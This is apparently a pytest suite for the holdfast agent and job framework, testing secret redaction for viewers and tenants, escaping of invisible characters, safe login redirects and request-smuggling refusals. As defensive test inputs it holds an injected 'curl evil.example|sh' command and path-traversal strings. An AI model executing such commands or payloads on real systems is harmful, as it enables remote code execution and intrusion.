"""What a viewer and a tenant are not told: secrets in any answer or stream, names of workers, what cannot be seen."""

from __future__ import annotations

import json

import pytest

from holdfast import Holdfast, Retry
from holdfast.access.principals import Principal
from holdfast.http import web
from holdfast.http.api.answers import without_secrets
from holdfast.http.pages.layout import is_below
from holdfast.http.pages.rendering import json_whole, shell
from holdfast.models.script import Script, call, say
from tests.http.client import Client
from tests.http.test_api import API
from tests.support.apps import eventually

SECRET = "sk-ant-abcdefgh12345678"


def viewer_of(hf: Holdfast, tenant: str | None = None) -> Client:
    return Client(web(hf, who=lambda _: Principal("vic", "viewer", tenant)))


async def test_a_viewer_reads_no_secret_of_a_run_anywhere(hf: Holdfast) -> None:
    @hf.tool(effect="read")
    def log_in(password: str) -> str:
        """Log in."""
        return f"logged in with {password}"

    hf.script("clerk", Script(call("log_in", password=SECRET), say(f"I used {SECRET} for it.")))
    run = await hf.agent("clerk", model="scripted:clerk", tools=[log_in]).enqueue(f"Use {SECRET}", key="once")
    await hf.ensure_worker()
    await run.result()
    viewer, admin = viewer_of(hf), Client(web(hf, who=lambda _: Principal("ann", "admin")))
    for path in ("", "/result", "/events", "/calls", "/messages", "/turns", "/stream", "/why"):
        told = await viewer.get(f"{API}/runs/{run.id}{path}")
        assert told.status == 200, (path, told.body)
        assert SECRET.encode() not in told.body, path
    assert SECRET.encode() in (await admin.get(f"{API}/runs/{run.id}/stream")).body, "who may act sees all"
    frames = (await viewer.get(f"{API}/runs/{run.id}/stream")).body.split(b"\n\n")
    whole = (await admin.get(f"{API}/runs/{run.id}/stream")).body.split(b"\n\n")
    assert [frame.split(b"\ndata:")[0] for frame in frames] == [frame.split(b"\ndata:")[0] for frame in whole]
    assert (await viewer.get(f"{API}/runs/{run.id}/result")).json["text"].startswith("I used ")


async def test_a_viewer_reads_no_secret_in_why(hf: Holdfast) -> None:
    @hf.job(name="sad", retry=Retry(attempts=3, base="1h"))
    async def sad() -> None:
        raise ValueError(f"cannot log in with {SECRET}")

    job = await sad.enqueue()
    await hf.ensure_worker()

    async def waits() -> bool:
        return (await hf.jobs.get(job.id)).state == "scheduled"

    await eventually(waits)
    told = await viewer_of(hf).get(f"{API}/jobs/{job.id}/why")
    assert "after attempt 1 of 3" in told.json[0]["sentence"]
    assert SECRET not in told.json[0]["sentence"]


async def test_a_tenant_is_told_why_without_the_names_of_workers_and_queues(hf: Holdfast) -> None:
    job = await hf.enqueue("idle", {}, queue="secret-queue", tenant="acme")
    await hf.queues.pause("secret-queue", reason="the operator is asleep")
    tenants = (await viewer_of(hf, "acme").get(f"{API}/jobs/{job.id}/why")).json
    ours = (await viewer_of(hf).get(f"{API}/jobs/{job.id}/why")).json
    assert [each["gate"] for each in tenants] == [each["gate"] for each in ours]
    assert "asleep" in json.dumps(ours)
    assert "asleep" not in json.dumps(tenants)
    assert "secret-queue" not in json.dumps(tenants)


async def test_the_result_of_a_run_that_has_ended_needs_no_wait(hf: Holdfast) -> None:
    hf.script("clerk", Script(say("Done.")))
    agent = hf.agent("clerk", model="scripted:clerk")
    client = viewer_of(hf)
    waiting = await agent.enqueue("Go")
    assert (await client.get(f"{API}/runs/{waiting.id}/result")).status == 202
    await hf.ensure_worker()
    await waiting.result()
    told = await client.get(f"{API}/runs/{waiting.id}/result")
    assert (told.status, told.json["text"]) == (200, "Done.")


def test_a_piece_of_arguments_is_not_told_to_a_viewer() -> None:
    assert SECRET[:6] not in json.dumps(without_secrets({"type": "input_delta", "text": f'{{"key": "{SECRET[:6]}'}))


def test_what_cannot_be_seen_is_escaped_where_a_person_approves() -> None:
    given = {"to": "alice\u202egro.live\u202c", "smile": "\U0001f600", "tag": "\U000e0041"}
    text = json_whole(given)
    assert "\u202e" not in text
    assert "\U000e0041" not in text
    assert json.loads(text) == given


@pytest.mark.parametrize("place", ["/../evil", "/a/%2e%2e/b", "/./x", "//evil", "/\\evil", "evil", "/a b"])
def test_a_login_leads_to_no_place_outside(place: str) -> None:
    assert not is_below(place)
    assert is_below("/runs?agent=..")


def test_a_command_that_is_copied_runs_nothing_else() -> None:
    assert shell("x; curl evil.example|sh #") == "'x; curl evil.example|sh #'"
    assert shell("mail") == "mail"


async def test_a_viewer_reads_no_secret_in_a_key_an_instruction_or_a_plan(hf: Holdfast) -> None:
    """Where people put them although they should not."""
    key = "sk-ant-api03-" + "a1B2c3D4" * 5
    told = {"instructions": f"Log in with {key}.", "description": f"uses {key}"}
    row = await hf.agents.create("clerk", model="scripted:", **told)  # type: ignore[arg-type]
    await hf.session(f"user-{key}")
    admin = Client(web(hf, who=lambda _: Principal("ann", "admin")))
    plan = {"plan_id": "p", "plan_description": key, "tasks": [{"task_number": 1, "command": "echo", "args": [key]}]}
    stored = await admin.post("/api/v1/plans", plan)
    assert stored.status in (200, 201), stored.body
    viewer = Client(web(hf, who=lambda _: Principal("eve", "viewer")), headers={"accept": "text/html"})
    for path in (
        *("/api/v1/agents", f"/api/v1/agents/{row.id}", f"/api/v1/agents/{row.id}/versions", "/api/v1/sessions"),
        *("/api/v1/plans", "/api/v1/plans/p", f"/agents/{row.id}", "/sessions", "/plans", "/plans/p"),
    ):
        answer = await viewer.get(path)
        assert answer.status == 200, (path, answer.body)
        assert key not in answer.body.decode(), path


async def test_a_body_that_nests_without_end_is_a_wrong_login(hf: Holdfast) -> None:
    client = Client(web(hf))
    deep = await client.call("POST", "/login", raw=b"[" * 16_000, headers={"sec-fetch-site": "same-origin"})
    assert deep.status == 422, deep.body


async def test_a_request_that_says_twice_how_long_it_is_is_refused(hf: Holdfast) -> None:
    client = Client(web(hf, who=lambda _: Principal("ann", "admin")))
    twice = await client.post("/api/v1/sessions", {}, transfer_encoding="chunked")
    assert (twice.status, twice.json["error"]) == (400, "TwoLengths")
